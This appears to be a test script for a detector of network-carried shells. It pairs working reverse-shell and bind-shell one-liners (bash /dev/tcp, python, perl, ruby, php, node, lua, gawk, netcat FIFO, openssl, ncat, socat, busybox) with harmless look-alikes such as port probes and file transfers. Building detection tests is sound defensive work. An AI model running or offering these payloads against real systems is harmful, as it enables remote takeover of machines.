# Shells that are carried over the network, the tools that carry them, and harmless work that looks alike.
# What is sent to a shell is `id`, `echo harmless` and `exit`.

scenario bash_tcp_in_place "bash opens /dev/tcp and becomes the interactive shell on it" reverse_shell_in_place
bash_tcp_in_place() {
  as_guest bash -c "exec bash -i >&/dev/tcp/$far_ip/9001 0>&1"
}

scenario bash_tcp_child "bash opens /dev/tcp and starts the shell as its child" reverse_shell_child shell_connects_then_looks_around
bash_tcp_child() {
  as_guest bash -c "exec 5<>/dev/tcp/$far_ip/9002; sh <&5 >&5 2>&5; echo over"
}

scenario bash_tcp_wrapped "bash opens /dev/tcp and becomes timeout, which starts the shell" reverse_shell_behind_wrapper
bash_tcp_wrapped() {
  as_guest bash -c "exec timeout 5 bash -i >&/dev/tcp/$far_ip/9018 0>&1"
}

scenario bash_tcp_commands "bash runs line after line of what it reads from /dev/tcp; no shell is started" shell_connects_then_looks_around
bash_tcp_commands() {
  as_guest bash -c "exec 5<>/dev/tcp/$far_ip/9003
    while read -r line <&5; do [ \"\$line\" != exit ] || break; \$line >&5 2>&5; done; echo over"
}

scenario bash_tcp_probe "bash only looks whether a port is open, as start scripts do"
bash_tcp_probe() {
  as_guest bash -c "timeout 2 bash -c '</dev/tcp/$far_ip/5432' && ls / >/dev/null"
}

scenario python_tcp_pty "python connects, makes the socket its standard input and starts sh at a terminal" inline_interpreter_shell reverse_shell_child
python_tcp_pty() {
  needs python3
  as_guest timeout 8 /usr/bin/python3 -c "
import socket, os, pty
s = socket.socket(); s.connect(('$far_ip', 9004))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn('/bin/sh')"
}

scenario python_tcp_subprocess "python connects and runs every line it is sent through sh -c" inline_interpreter_shell
python_tcp_subprocess() {
  as_guest /usr/bin/python3 -c "
import socket, subprocess
s = socket.create_connection(('$far_ip', 9005))
for line in s.makefile():
    if line.strip() == 'exit': break
    s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)"
}

scenario perl_tcp_in_place "perl connects and becomes an interactive sh" reverse_shell_in_place
perl_tcp_in_place() {
  needs perl
  as_guest perl -e "
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
connect(S, sockaddr_in(9006, inet_aton('$far_ip'))) or die;
open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');
exec('/bin/sh -i');"
}

scenario ruby_tcp_child "ruby connects and starts sh as its child" inline_interpreter_shell reverse_shell_child
ruby_tcp_child() {
  needs ruby
  as_guest ruby -rsocket -e "s = TCPSocket.new('$far_ip', 9007); system('/bin/sh', '-i', in: s, out: s, err: s)"
}

scenario php_tcp_child "php connects and starts sh on the descriptor through sh -c" inline_interpreter_shell reverse_shell_child udp_reverse_shell_sequence
php_tcp_child() {
  needs php
  as_guest php -r "\$s = fsockopen('$far_ip', 9008); proc_open('/bin/sh -i', [\$s, \$s, \$s], \$p); sleep(1);"
}

scenario node_tcp_child "node connects and starts sh as its child" inline_interpreter_shell reverse_shell_child
node_tcp_child() {
  needs node
  as_guest "$(command -v node)" -e "
const s = require('net').connect(9009, '$far_ip', () => {
  const sh = require('child_process').spawn('/bin/sh', []);
  s.pipe(sh.stdin); sh.stdout.pipe(s); sh.on('exit', () => process.exit(0)); });"
}

scenario lua_tcp_commands "lua connects and runs lines through popen" inline_interpreter_shell
lua_tcp_commands() {
  needs lua5.4
  as_guest lua5.4 -e "
local s = require('socket').tcp(); s:connect('$far_ip', 9010)
while true do
  local line = s:receive()
  if not line or line == 'exit' then break end
  local f = io.popen(line, 'r'); s:send(f:read('*a')); f:close()
end"
}

scenario gawk_tcp_commands "gawk opens /inet and runs lines through a pipe" text_tool_connects udp_reverse_shell_sequence
gawk_tcp_commands() {
  needs gawk
  as_guest gawk "BEGIN {
    s = \"/inet/tcp/0/$far_ip/9011\"
    while ((s |& getline line) > 0 && line != \"exit\") { while ((line | getline out) > 0) print out |& s; close(line) } }"
}

scenario nc_fifo "a named pipe, sh -i and netcat in a ring" piped_shell_ring
nc_fifo() {
  needs nc
  as_guest sh -c "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -N -w 2 $far_ip 9012 >/tmp/f; rm -f /tmp/f"
}

scenario openssl_fifo "a named pipe, sh -i and openssl s_client in a ring" piped_shell_ring
openssl_fifo() {
  needs openssl
  as_guest sh -c "rm -f /tmp/g; mkfifo /tmp/g; sh -i </tmp/g 2>&1 | openssl s_client -quiet -connect $far_ip:443 >/tmp/g; rm -f /tmp/g"
}

scenario ncat_exec "ncat connects and runs sh for the connection" program_handed_to_connection reverse_shell_child
ncat_exec() {
  needs ncat
  as_guest ncat -e /bin/sh "$far_ip" 9013
}

scenario socat_exec "socat connects and runs a shell at a terminal of its own" program_handed_to_connection reverse_shell_child
socat_exec() {
  needs socat
  as_guest timeout 5 socat "TCP:$far_ip:9014" "EXEC:/bin/bash -i,pty,stderr,setsid"
}

scenario busybox_nc_exec "busybox nc connects and becomes sh" program_handed_to_connection reverse_shell_in_place
busybox_nc_exec() {
  needs busybox
  as_guest busybox nc "$far_ip" 9015 -e /bin/sh
}

scenario python_bind_shell "python listens, takes one connection and becomes sh on it" bind_shell_in_place
python_bind_shell() {
  as_guest timeout 8 /usr/bin/python3 -c "
import socket, os
l = socket.create_server(('0.0.0.0', 9051)); s, _ = l.accept()
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
os.execv('/bin/sh', ['sh', '-i'])"
}

scenario perl_bind_shell_child "perl listens and starts sh as a child for the connection" application_server_discovery bind_shell_child
perl_bind_shell_child() {
  as_guest timeout 8 perl -e "
use IO::Socket::INET;
my \$l = IO::Socket::INET->new(LocalPort => 9052, Listen => 1, ReuseAddr => 1) or die;
my \$s = \$l->accept();
if (!fork) { open(STDIN, '<&', \$s); open(STDOUT, '>&', \$s); exec('/bin/sh'); } wait;"
}

scenario ncat_bind_shell "ncat listens and runs sh for the connection" bind_shell_child program_handed_to_connection
ncat_bind_shell() {
  needs ncat
  as_guest timeout 8 ncat -l 9053 -e /bin/sh
}

scenario socat_bind_shell "socat listens and runs sh for the connection" bind_shell_child program_handed_to_connection
socat_bind_shell() {
  needs socat
  as_guest timeout 8 socat TCP-LISTEN:9054,reuseaddr EXEC:/bin/sh
}

scenario nc_transfer "netcat and socat carry a file, and no shell"
nc_transfer() {
  needs nc
  as_guest sh -c "echo hello | nc -N -w 2 $far_ip 9016; echo hello | timeout 3 socat - TCP:$far_ip:9017"
  return 0
}

scenario python_client "a python script fetches a page, then runs a tool"
python_client() {
  cat >/home/guest/report.py <<SCRIPT
import subprocess, urllib.request
urllib.request.urlopen('http://$far_ip/').read()
subprocess.run(['ls', '/'], capture_output=True)
subprocess.run('ls / | head -n 1', shell=True, capture_output=True)
SCRIPT
  as_guest /usr/bin/python3 /home/guest/report.py
}

scenario python_server "a python server takes a connection and answers it"
python_server() {
  as_guest timeout 8 /usr/bin/python3 -c "
import socket
l = socket.create_server(('0.0.0.0', 9055)); s, _ = l.accept(); s.sendall(b'hello'); s.close()"
}

scenario icmp_raw_socket "python, root, opens a raw socket for ICMP and sends one packet" raw_socket_interpreter
icmp_raw_socket() {
  /usr/bin/python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('$far_ip', 0))"
}

scenario ping_host "ping of the system, with a raw or ping socket"
ping_host() {
  needs ping
  ping -c 1 -W 1 "$far_ip"
}
